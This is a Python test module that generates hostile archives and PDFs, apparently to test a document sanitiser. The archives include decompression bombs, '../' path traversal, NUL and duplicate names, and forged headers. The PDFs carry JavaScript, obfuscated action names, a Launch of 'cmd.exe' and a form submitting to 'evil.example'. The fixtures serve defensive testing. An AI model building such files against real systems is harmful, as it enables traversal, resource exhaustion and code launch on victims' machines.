"""Archives and PDFs that programs read differently, that swell, or that act."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping

from tests.support.office_parts import body, packed, word


def archives() -> Iterator[tuple[str, bytes]]:
    """Return archives that programs read differently, or that swell."""
    parts = word()
    for name, method in (("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):
        yield f"one part in {name}", _with_member(parts, "word/a.xml", bytes(2_000_000), method)
        yield f"all parts in {name}", packed(parts, method)
    yield "names that differ in capitals", packed(parts | {"word/Document.xml": body()})
    yield "names that differ by a percent sign", packed(parts | {"word/documen%74.xml": body()})
    yield "a part in pieces", packed(parts | {"word/a.xml/[0].piece": b"<a/>"})
    data = packed(parts | {"word/a0b.xml": b"<a/>"})
    yield "NUL in a name", data.replace(b"word/a0b.xml", b"word/a\x00b.xml")
    yield "name that differs in the directory", _first(data, b"word/a0b.xml", b"word/a1b.xml")
    yield "same name twice", packed(parts | {"word/zzzzument.xml": body()}).replace(b"zzzzument", b"document")
    yield "way up", packed(parts | {"../a.xml": b"<a/>"})
    yield "backslash", packed(parts | {"word\\a.xml": b"<a/>"})
    yield "another archive before it", packed({"x": b"y"}) + packed(parts)
    yield "something behind it", packed(parts) + b"x" * 40
    yield "encrypted", _flagged(packed(parts), 1)
    yield "strongly encrypted", _flagged(packed(parts), 0x40)
    yield "swelling", packed(parts | {"word/a.xml": b" " * 9_000_000})
    yield "sizes that are too large", _sized(packed(parts), 1 << 31)
    yield "too many parts", packed(parts | {f"word/{n}.xml": b"<a/>" for n in range(500)})
    yield "method told otherwise before the part", _local_method(packed(parts), 12)


def _with_member(parts: Mapping[str, bytes], name: str, content: bytes, method: int) -> bytes:
    made = io.BytesIO(packed(parts))
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr(name, content, method)
    return made.getvalue()


def _first(data: bytes, old: bytes, new: bytes) -> bytes:
    at = data.index(old)
    return data[:at] + new + data[at + len(old) :]


def _flagged(data: bytes, flag: int) -> bytes:
    changed, at = bytearray(data), data.rindex(b"PK\x01\x02")
    changed[at + 8] |= flag
    return bytes(changed)


def _sized(data: bytes, size: int) -> bytes:
    changed, at = bytearray(data), data.rindex(b"PK\x01\x02")
    changed[at + 24 : at + 28] = struct.pack("<L", size)
    return bytes(changed)


def _local_method(data: bytes, method: int) -> bytes:
    changed = bytearray(data)
    changed[8:10] = struct.pack("<H", method)
    return bytes(changed)


def pdfs() -> Iterator[tuple[str, bytes]]:
    def of(action: bytes) -> bytes:
        return b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/OpenAction " + action + b">>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"

    def stream(head: bytes, content: bytes) -> bytes:
        packed_objects = zlib.compress(b"2 0 " + content)
        return of(b"2 0 R") + b"\n9 0 obj\n<<" + head + b">>\nstream\r\n" + packed_objects + b"\nendstream\nendobj\n"

    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    yield "script of a PDF", of(script)
    yield "script of a PDF, name in digits", of(b"<</S/J#61vaScript/JS(1)>>")
    yield "script of a PDF, name in capital digits", of(b"<</S /#4A#61#76#61#53cript /JS(1)>>")
    yield "program of a PDF", of(b"<</S/Launch/F(cmd.exe)>>")
    yield "form of a PDF that sends itself", of(b"<</S/SubmitForm/F(http://evil.example)>>")
    yield "form of a PDF with scripts", of(b"null/AcroForm<</XFA [(a) 3 0 R]>>")
    yield "script in an object stream", stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", script)
    yield "script in a stream that hides what it is", stream(b"/N 1/First 4/Filter /FlateDecode", script)
    yield ("object stream in another dress", stream(b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", script))
    yield "object stream of a locked PDF", stream(b"/Type/ObjStm/Encrypt 4 0 R/Filter/FlateDecode", b"<<>>")
